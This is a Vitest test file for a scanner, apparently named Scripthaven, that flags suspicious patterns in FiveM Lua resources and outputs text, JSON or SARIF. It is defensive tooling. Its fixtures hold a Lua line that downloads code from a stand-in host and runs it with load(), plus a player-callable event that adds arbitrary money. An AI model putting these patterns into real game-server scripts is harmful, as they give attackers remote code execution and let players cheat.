import { execFile } from 'node:child_process'
import { mkdir, writeFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import { promisify } from 'node:util'

import sarifSchema from '@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json' with { type: 'json' }
import draft04 from 'ajv-draft-04'
import formats from 'ajv-formats'
import { expect, test } from 'vitest'

import { sevenZipOf } from '#test-support/archives/seven-zip.ts'
import { zipOf } from '#test-support/archives/zip.ts'
import { temporaryFolder } from '#test-support/files.ts'

const members = [
  { name: 'garage/fxmanifest.lua', content: "fx_version 'cerulean'\ngame 'gta5'\nserver_script '*.lua'" },
  {
    name: 'garage/server.lua',
    content: "PerformHttpRequest('https://a.example', function(_, text)\n  load(text)()\nend)",
  },
]

async function folderOf(files: readonly { name: string; content: string }[]): Promise<string> {
  const folder = await temporaryFolder()
  for (const { name, content } of files) {
    await mkdir(dirname(join(folder, name)), { recursive: true })
    await writeFile(join(folder, name), content)
  }
  return folder
}

async function scan(...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  try {
    const { stdout, stderr } = await promisify(execFile)(process.execPath, ['scan/main.ts', ...args])
    return { code: 0, stdout, stderr }
  } catch (error) {
    if (error instanceof Error && 'code' in error && 'stdout' in error && 'stderr' in error)
      return { code: Number(error.code), stdout: String(error.stdout), stderr: String(error.stderr) }
    throw error
  }
}

test('a folder, a .zip and a .7z have the same findings', async () => {
  const folder = await folderOf(members)
  const zip = join(await temporaryFolder(), 'garage.zip')
  const sevenZip = join(await temporaryFolder(), 'garage.7z')
  await writeFile(zip, zipOf(members))
  await writeFile(sevenZip, sevenZipOf(members))

  const reports = [await scan(folder), await scan(zip), await scan(sevenZip)]

  expect(reports[0]?.stdout).toMatch(
    /HIGH {2}Runs code that it downloads[^\n]*server\n {2}garage\/server\.lua:2/,
  )
  expect(reports.map(({ code, stdout }) => [code, stdout])).toEqual(
    Array.from({ length: 3 }, () => [0, reports[0]?.stdout]),
  )
})

/** Players get what they ask for: one finding of severity medium. */
const mediumOnly = [
  { name: 'a/fxmanifest.lua', content: "fx_version 'cerulean'\ngame 'gta5'\nserver_script '*.lua'" },
  {
    name: 'a/server.lua',
    content: "RegisterNetEvent('pay', function(sum)\n  ESX.GetPlayerFromId(source).addMoney(sum)\nend)",
  },
]

test.each([
  ['high', members, 1],
  ['medium', members, 1],
  ['low', members, 1],
  ['high', mediumOnly, 0],
  ['medium', mediumOnly, 1],
  ['low', mediumOnly, 1],
] as const)('--fail-on %s', async (severity, files, code) => {
  const folder = await folderOf(files)

  expect((await scan(folder)).code).toBe(0)
  expect((await scan(folder, '--fail-on', severity)).code).toBe(code)
})

test('--json prints the complete report, also when the exit code is 1', async () => {
  const { code, stdout } = await scan(await folderOf(mediumOnly), '--json', '--fail-on', 'medium')

  expect(code).toBe(1)
  expect(JSON.parse(stdout)).toMatchObject({
    counts: { high: 0, medium: 1, low: 0 },
    contents: { files: 2, notReadTotal: 0 },
    resources: [{ name: 'a' }],
    findings: [
      { severity: 'medium', rule: 'open-to-players', path: 'a/server.lua', line: 2, side: 'server' },
    ],
  })
})

test('files without a finding pass', async () => {
  const folder = await folderOf([{ name: 'a/fxmanifest.lua', content: "fx_version 'cerulean'\ngame 'gta5'" }])

  expect(await scan(folder, '--fail-on', 'low')).toMatchObject({
    code: 0,
    stdout: expect.stringContaining('No known suspicious patterns.'),
  })
})

// A pattern of the schema is no valid one with the flag u.
const ajv = new draft04.default({ allErrors: true, strict: false, unicodeRegExp: false })
formats.default(ajv)
const isSarif = ajv.compile(sarifSchema)

test.each([
  ['findings with a line', members],
  ['no finding', [{ name: 'a/fxmanifest.lua', content: "fx_version 'cerulean'\ngame 'gta5'" }]],
  ['findings of whole files', [{ name: 'a b/tool#1.exe', content: 'MZ\0\0' }]],
  [
    'files that were not read',
    [...members, { name: 'garage/é %.lua', content: `--${'a'.repeat(5_000_000)}` }],
  ],
])('SARIF with %s is valid SARIF 2.1.0', async (_, files) => {
  const log: unknown = JSON.parse((await scan(await folderOf(files), '--sarif')).stdout)

  isSarif(log)
  expect(isSarif.errors).toBeNull()
})

test('the schema rejects what is no SARIF', async () => {
  const { stdout } = await scan(await folderOf(members), '--sarif')

  expect(isSarif(JSON.parse(stdout.replace('"level": "error"', '"level": "high"')))).toBe(false)
  expect(isSarif(JSON.parse(stdout.replace('"startLine": 2', '"startLine": 0')))).toBe(false)
})

test('SARIF names rule, level, file and line of each finding', async () => {
  const { stdout } = await scan(await folderOf(members), '--sarif')

  expect(JSON.parse(stdout)).toMatchObject({
    version: '2.1.0',
    runs: [
      {
        tool: { driver: { name: 'Scripthaven', rules: [{ id: 'runs-downloaded-code' }] } },
        results: [
          {
            ruleId: 'runs-downloaded-code',
            ruleIndex: 0,
            level: 'error',
            locations: [
              {
                physicalLocation: {
                  artifactLocation: { uri: 'garage/server.lua' },
                  region: { startLine: 2 },
                },
              },
            ],
          },
        ],
      },
    ],
  })
})

test.each([
  [[], 'Name one path'],
  [['a', 'b'], 'Name one path'],
  [['/does/not/exist'], 'does not exist'],
  [['package.json'], 'Name the folder of the resource'],
  [['scan', '--fail-on'], 'argument missing'],
  [['scan', '--json', '--sarif'], 'not both'],
  [['scan', '--fail-on', 'worst'], 'takes high, medium or low'],
  [['scan', '--unknown'], 'Unknown option'],
])('%j is bad usage: %s', async (args, message) => {
  expect(await scan(...args)).toMatchObject({ code: 2, stderr: expect.stringContaining(message) })
})

test('a damaged archive is no report', async () => {
  const zip = join(await temporaryFolder(), 'a.zip')
  await writeFile(zip, zipOf(members).subarray(0, 100))

  expect((await scan(zip)).code).toBe(2)
})
